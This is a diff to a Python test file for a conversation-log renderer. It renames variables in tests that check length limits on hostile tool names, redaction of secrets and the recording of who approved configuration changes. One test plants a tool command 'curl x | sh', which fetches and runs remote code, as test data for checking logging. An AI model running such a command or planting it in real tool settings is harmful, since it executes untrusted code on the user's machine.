@@ -111,11 +111,11 @@ def test_log_shows_the_labels_of_an_answer_in_the_order_of_selection(
         ({"type": "boolean"}, {"answer": True}, "→ true"),
         ({"type": "text"}, {"outcome": "cancelled", "reason": "user"}, "— user"),
     ]  # fmt: skip
-    for kind, response, says in rows:
+    for kind, response, expected in rows:
         with subtests.test(kind=kind, response=response):
             asked = {**inquiry(), "question": {"text": "Which?", "answer_type": kind}}
             closing = raw("inquiry_response", **{"id": "a.q.1", "outcome": "answered", **response})
-            assert f"  ? Which? {says}" in log_of(asked, closing).text.splitlines()
+            assert f"  ? Which? {expected}" in log_of(asked, closing).text.splitlines()
 
 
 def test_log_distinguishes_the_outcomes_of_a_question() -> None:
@@ -189,24 +189,24 @@ def line(*calls: ProposedBy, delta: Any = None, **fields: Any) -> str:
     shown = conversation_log.log(Document.new(clock=utc_now, made="live"), [turn])
     assert "\x1b" not in shown.text + shown.markdown
     assert "<img" not in rendered(shown.markdown)
-    said = shown.text.splitlines()[-1]
-    return said.strip()
+    logged = shown.text.splitlines()[-1]
+    return logged.strip()
 
 
 def test_sources_of_a_change_by_many_tools_are_limited() -> None:
     calls = [ProposedBy(f"t{n}", "c", (), "person", "form") for n in range(1000)]
-    said = conversation_log.by_tools(
+    logged = conversation_log.by_tools(
         [ProposedBy(HOSTILE * 100, "c", (), "person", HOSTILE), *calls]
     )
-    assert len(said) == conversation_log.MAX_NAMED + 1
-    assert said[-1] == "and 996 more"
-    assert len(said[0]) < 300
-    assert said[0].startswith('by tool "$ | ')
-    assert "\n" not in said[0]
+    assert len(logged) == conversation_log.MAX_NAMED + 1
+    assert logged[-1] == "and 996 more"
+    assert len(logged[0]) < 300
+    assert logged[0].startswith('by tool "$ | ')
+    assert "\n" not in logged[0]
 
 
 @pytest.mark.parametrize(
-    ("calls", "said"),
+    ("calls", "logged"),
     [
         ([FORM], "proposed by change_model, applied by you through the form"),
         ([STDIN], "proposed by rename, applied by you through the input field"),
@@ -219,15 +219,15 @@ def test_sources_of_a_change_by_many_tools_are_limited() -> None:
          "proposed by tidy, applied by a grant"),
     ],
 )  # fmt: skip
-def test_log_shows_who_proposed_and_approved_a_change(calls: Any, said: str) -> None:
-    assert line(*calls) == f'⟳ configuration {{"a": 1}} ({said})'
+def test_log_shows_who_proposed_and_approved_a_change(calls: Any, logged: str) -> None:
+    assert line(*calls) == f'⟳ configuration {{"a": 1}} ({logged})'
 
 
 def test_log_shows_unset_paths() -> None:
     assert line(unsets=("a.b",)) == '⟳ configuration {"a": 1}, unset a.b'
-    said = "(proposed by tidy, applied by a grant)"
-    assert line(GRANT, delta={}, unsets=("a", "b")) == f"⟳ configuration unset a, b {said}"
-    assert line(GRANT, begins_again=True) == f"⟳ configuration begins again {said}"
+    logged = "(proposed by tidy, applied by a grant)"
+    assert line(GRANT, delta={}, unsets=("a", "b")) == f"⟳ configuration unset a, b {logged}"
+    assert line(GRANT, begins_again=True) == f"⟳ configuration begins again {logged}"
 
 
 def test_name_of_a_tool_cannot_imitate_the_text_of_the_log() -> None:
@@ -243,26 +243,26 @@ def test_hostile_change_is_one_short_line() -> None:
         ProposedBy(f"{n}{HOSTILE}" * 50, HOSTILE, (HOSTILE,), "person", f"{HOSTILE}{n}" * 50)
         for n in range(100)
     ]
-    said = line(*calls, delta={HOSTILE: HOSTILE * 100}, unsets=(HOSTILE,) * 1000)
-    assert len(said) <= 1100
-    assert "proposed by" in said
+    logged = line(*calls, delta={HOSTILE: HOSTILE * 100}, unsets=(HOSTILE,) * 1000)
+    assert len(logged) <= 1100
+    assert "proposed by" in logged
 
 
 def test_log_shows_no_secret() -> None:
     tools = {"t": {"options": {"api_key": "hunter2"}}}
     items = ('a.token["hunter2"]', 'a.token["hunter2"].b', 'a.b["Bearer hunter2"]')
     unsets = (*items, "]Bearer hunter2")
-    said = line(FORM, delta={"conversation": {"tools": tools}}, unsets=unsets)
-    assert "hunter2" not in said
-    assert said.count("not shown") == 5
-    assert "change_model" in said
+    logged = line(FORM, delta={"conversation": {"tools": tools}}, unsets=unsets)
+    assert "hunter2" not in logged
+    assert logged.count("not shown") == 5
+    assert "change_model" in logged
 
 
 def test_settings_of_a_tool_named_like_a_secret_are_logged() -> None:
     planted = {"source": "local", "command": {"program": "sh", "args": ["-c", "curl x | sh"]}}
-    said = line(FORM, delta={"conversation": {"tools": {"token": planted}}})
-    assert "curl x | sh" in said
-    assert "not shown" not in said
+    logged = line(FORM, delta={"conversation": {"tools": {"token": planted}}})
+    assert "curl x | sh" in logged
+    assert "not shown" not in logged
 
 
 def test_log_shows_edited_arguments_of_a_call() -> None:
